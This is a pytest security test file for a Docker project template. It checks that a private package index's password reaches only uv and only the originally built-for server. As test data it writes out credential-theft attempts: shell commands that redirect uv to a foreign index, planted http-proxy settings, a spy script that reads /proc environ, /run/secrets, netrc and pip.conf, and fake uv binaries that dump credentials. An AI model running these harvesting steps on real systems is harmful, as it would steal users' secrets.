"""Who gets the login of the private index in a container: uv, for the server that the image was built for."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import BakedProject, generate
from tests.support.index_server import PackageIndex, listener, package_index
from tests.support.light_project import empty

UID = 4242
PASSWORD, OTHERS = "s3cr3t-Vb8Kq2Xw", "t0ken-Rj5Nd9Ty"
ATTACK = """
mkdir -p {name} && cat > {name}/pyproject.toml <<'END'
[project]
name = "foreign"
version = "0"
requires-python = ">=3.10"
dependencies = ["in-house-package"]
[[tool.uv.index]]
name = "private"
url = "{url}/{name}/simple"
explicit = true
[tool.uv.sources]
in-house-package = {{ index = "private" }}
END
{command} || true
"""
# A project that is not /code's, with an index of the same name, and how uv comes to read it.
ATTACKS = {
    "lock": "(cd lock && uv lock)",
    "tree": "(cd tree && uv tree)",
    "project": "uv --project project lock",
    "directory": "uv --directory=directory lock",
    "variable": "UV_PROJECT=variable uv lock",
    "outside": "cp -r outside /tmp/ && (cd /tmp/outside && uv lock)",
    "add": "(cd add && uv add --no-sync in-house-tool --index private)",
    "named": "uv lock --upgrade --index private={url}/named/simple",
    "environment": "UV_INDEX=private={url}/environment/simple uv lock --upgrade",
    "default": "UV_DEFAULT_INDEX=private={url}/default/simple uv pip install requests",
    "pip": "uv pip install --index-url {url}/pip/simple requests",
    "built": "uv pip install --default-index {url}/built/simple ./built",
    "config": 'mkdir -p c && echo \'[[index]]\nname = "private"\nurl = "{url}/config/simple"\' > c/uv.toml'
    " && uv --config-file c/uv.toml pip install in-house-tool;"
    " mv c/uv.toml . && uv pip install in-house-tool; rm uv.toml",
    "script": 'printf \'# /// script\n# dependencies = ["x"]\n# [[tool.uv.index]]\n# name = "private"\n'
    '# url = "{url}/script/simple"\n# ///\n\' > s.py && uv lock --script s.py',
    # one that this project names as a part of itself
    "member": "cp pyproject.toml p && echo '[tool.uv.workspace]\nmembers = [\"member\"]' >> pyproject.toml"
    " && (cd member && uv lock); mv p pyproject.toml",
    "run": "uv --directory run run env",
    "tool": "UV_INDEX=private={url}/tool/simple uv -q tool run anything",
}


@dataclass(frozen=True)
class Built:
    """A project with a private index, built, of a user who is not root."""

    project: BakedProject
    index: PackageIndex

    def run(self, *words: str, **settings: str) -> subprocess.CompletedProcess[str]:
        """Run a command in a container; words before `app` are options."""
        return self.project.run("docker", "compose", "run", "--rm", *words, **settings)


@pytest.fixture(scope="module")
def built(base, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """The project. Its password is where a test puts it."""
    folder = tmp_path_factory.mktemp("logins")
    packages = {"in-house-package": "1.0", "in-house-tool": "1.0"}
    with package_index(folder / "private", packages, {"corp": PASSWORD}, content="logins") as index:
        answers = {"private_index": index.url, "private_packages": "in-house-package"}
        project = empty(generate(folder, project="capy-index", **answers))
        own(project.path)
        login = {"PYPI_ACCOUNT": "corp", "PYPI_PASSWORD": PASSWORD}
        done = project.run("docker", "compose", "build", "--progress", "plain", **login)
        assert done.returncode == 0, done.stderr
        yield Built(project, index)


def own(path: Path) -> None:
    """Give files to an ordinary user, where the tests run as root."""
    if os.getuid() == 0:
        subprocess.run(["chown", "-R", f"{UID}:{UID}", str(path)], check=True)


@pytest.fixture
def files(built: Built, tmp_path: Path) -> dict[str, str]:
    """NETRC and PIP_CONF of the user: the login of this index in one, of other servers in both."""
    netrc, pip_conf = tmp_path / ".netrc", tmp_path / "pip.conf"
    netrc.write_text(
        f"machine {built.index.host} login corp password {PASSWORD}\n"
        f"machine git.example.com login me password {OTHERS}\n"
    )
    pip_conf.write_text(f"[global]\nextra-index-url = https://me:{OTHERS}@other.example.com/simple\n")
    for file in (netrc, pip_conf):
        file.chmod(0o600)
        own(file)
    return {"NETRC": str(netrc), "PIP_CONF": str(pip_conf)}


def test_another_server_never_gets_the_login_whatever_its_index_is_called(built):
    login = {"PYPI_ACCOUNT": "corp", "PYPI_PASSWORD": PASSWORD}
    with listener() as other:
        steps = [
            ATTACK.format(name=name, url=other.root, command=command.format(url=other.root))
            for name, command in ATTACKS.items()
        ]
        script = built.project.path / "attacks.sh"
        script.write_text("".join(steps))
        done = built.run(
            *("--env", "PYPI_PASSWORD", "--env", "UV_HTTP_RETRIES=0", "app", "sh", "attacks.sh"), **login
        )

    assert not other.logins(), other.logins()
    assert {*ATTACKS} - other.names() <= {"run", "tool"}, done.stderr[-3000:]  # these resolve nothing
    assert PASSWORD not in done.stdout + done.stderr


def test_a_url_that_changed_since_the_build_gets_no_login_and_is_named(built):
    with listener() as other:
        text = built.project.read("pyproject.toml")
        changed = text.replace(built.index.root, f"{other.root}/changed")
        (built.project.path / "pyproject.toml").write_text(changed)
        login = {"PYPI_ACCOUNT": "corp", "PYPI_PASSWORD": PASSWORD}
        done = built.run("--env", "PYPI_PASSWORD", "app", "uv", "lock", "--upgrade", **login)
        (built.project.path / "pyproject.toml").write_text(text)

    assert done.returncode != 0
    assert (other.logins(), other.names()) == (set(), {"changed"})
    line = f"the image was built for {built.index.root}, so it gets no login: docker compose build"
    assert line in done.stderr


SCRIPT = """# /// script
# dependencies = ["in-house-tool"]
# [tool.uv]
# {line}
# sources.in-house-tool.index = "private"
# [[tool.uv.index]]
# name = "private"
# url = "{url}"
# ///
"""
# Where code in an earlier container may have written a proxy for uv.
PLANTED = {
    "the home": "mkdir -p ~/.config/uv && cat line > ~/.config/uv/uv.toml; uv lock --upgrade",
    "uv.toml": "cp line uv.toml; uv lock --upgrade",
    "pyproject.toml": "sed -i '/^.tool.uv.$/r line' pyproject.toml; uv lock --upgrade",
    "a script": "uv lock --script planted.py",
}


@pytest.mark.parametrize("place", PLANTED)
def test_a_planted_proxy_never_gets_the_login(built, place):
    folder, before = built.project.path, built.project.read("pyproject.toml")
    login = {"PYPI_ACCOUNT": "corp", "PYPI_PASSWORD": PASSWORD}
    with listener() as other:
        line = f'http-proxy = "{other.root}"'
        (folder / "line").write_text(f"{line}\n")
        (folder / "planted.py").write_text(SCRIPT.format(line=line, url=built.index.url))
        steps = f"{PLANTED[place]}; rm -rf uv.toml ~/.config"
        done = built.run("--env", "PYPI_PASSWORD", "app", "sh", "-c", steps, **login)
    (folder / "pyproject.toml").write_text(before)

    assert not other.logins()
    if place == "the home":
        assert (other.seen, "Resolved" in done.stderr) == ([], True), done.stderr
    else:
        assert other.seen, done.stderr
        assert "http-proxy in " in done.stderr
        assert "is new since the build and could send the login elsewhere" in done.stderr


@pytest.mark.parametrize("change", ["http for https", "a redirect"])
def test_neither_plain_http_nor_a_redirect_gets_the_login_of_an_index(built, tmp_path, change):
    """What the image was built for is a file in it: another one is mounted there."""
    with listener() as other, listener(redirect=other.root) as first:
        asked = first if change == "a redirect" else other
        mine = asked.root if change == "a redirect" else asked.root.replace("http:", "https:")
        text = built.project.read("pyproject.toml")
        known = tmp_path / "pyproject.toml"
        known.write_text(text.replace(built.index.root, mine))
        known.chmod(0o644)
        (built.project.path / "pyproject.toml").write_text(text.replace(built.index.root, asked.root))
        login = {"PYPI_ACCOUNT": "corp", "PYPI_PASSWORD": PASSWORD}
        options = ("--env", "PYPI_PASSWORD", "--volume", f"{known}:/opt/pyproject.toml:ro")
        done = built.run(*options, "app", "uv", "lock", "--upgrade", **login)
        (built.project.path / "pyproject.toml").write_text(text)

    assert other.names() == {"simple"}, done.stderr
    assert not other.logins()


SPY = """
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'
cat /run/secrets/* /opt/index/* /dev/shm/* /dev/shm/*/* /tmp/* 2>/dev/null
setpriv --groups index cat /opt/index/netrc /opt/index/pip_conf 2>/dev/null
setpriv --reuid nobody cat /opt/index/netrc /opt/index/pip_conf 2>/dev/null
cd /opt/index 2>/dev/null && cat netrc pip_conf
chmod 755 /opt/index 2>/dev/null
echo spied
"""


@pytest.mark.parametrize(
    "command",
    [
        *("sh spy.sh", "spy.py", "uv run sh spy.sh", "uv --directory /code run sh spy.sh"),
        *("uv -q --project . run sh spy.sh", "env uv --color never run sh spy.sh"),
    ],
)
def test_a_program_finds_nothing_of_netrc_and_pip_conf(built, files, command):
    (built.project.path / "spy.sh").write_text(SPY)
    (built.project.path / "spy.py").write_text("import os; os.execvp('sh', ['sh', '/code/spy.sh'])\n")

    done = built.run("app", *command.split(), **files)

    assert "spied" in done.stdout, done.stderr
    assert PASSWORD not in done.stdout + done.stderr
    assert OTHERS not in done.stdout + done.stderr


@pytest.mark.parametrize(
    ("settings", "code", "said"),
    [
        ({"GROUP_ID": "65533"}, 64, "GROUP_ID=65533 is the image's own group index"),
        ({"USER_ID": "65533"}, 64, "USER_ID=65533 is reserved in this image"),
        # the user `nobody`, and one that may be his group
        ({"USER_ID": "65534"}, 1, "Permission denied"),
        ({"GROUP_ID": "65534"}, 1, "Permission denied"),
    ],
)
def test_a_line_in_env_opens_their_folder_to_no_program(built, files, settings, code, said):
    for path in files.values():
        Path(path).chmod(0o644)

    done = built.run("app", "cat", "/opt/index/netrc", **settings, **files)

    assert (done.returncode, done.stdout) == (code, "")
    assert said in done.stderr


def test_uv_itself_gets_the_login_of_this_index_and_no_other(built, files, tmp_path):
    """In its place: a program that prints what it has."""
    spy = tmp_path / "uv"
    spy.write_text("#!/bin/sh\nenv\nsh /code/spy.sh; cat $UV_CREDENTIALS_DIR/*\n")
    spy.chmod(0o755)
    (built.project.path / "spy.sh").write_text(SPY)

    done = built.run("--volume", f"{spy}:/opt/uv/bin/uv:ro", "app", "uv", "lock", **files)
    real = built.run("app", "uv", "lock", "--upgrade", **files)

    assert (PASSWORD in done.stdout, OTHERS in done.stdout) == (True, False)
    assert real.returncode == 0, real.stderr
    assert (built.project.path / "uv.lock").stat().st_uid == (UID if os.getuid() == 0 else os.getuid())


def test_a_mirror_that_the_image_was_not_built_with_gets_no_login(built, files, tmp_path):
    """Code in an earlier container may have written it to .env; .netrc has a login for that server."""
    spy = tmp_path / "uv"
    spy.write_text("#!/bin/sh\ncat $UV_CREDENTIALS_DIR/*\n")
    spy.chmod(0o755)
    planted = {"PUBLIC_INDEX_URL": "https://git.example.com/simple"}

    done = built.run("--volume", f"{spy}:/opt/uv/bin/uv:ro", "app", "uv", "lock", **planted, **files)

    assert (PASSWORD in done.stdout, OTHERS in done.stdout) == (True, False), done.stderr


def test_a_uv_that_a_package_brings_does_not_get_the_login(built, files, tmp_path):
    planted = tmp_path / "uv"
    planted.write_text("#!/bin/sh\necho planted; sh /code/spy.sh\n")
    planted.chmod(0o755)
    (built.project.path / "spy.sh").write_text(SPY)

    done = built.run("--volume", f"{planted}:/opt/venv/bin/uv:ro", "app", "uv", "lock", "--upgrade", **files)

    assert ("planted" in done.stdout, done.returncode) == (False, 0), done.stderr
    assert PASSWORD not in done.stdout + done.stderr
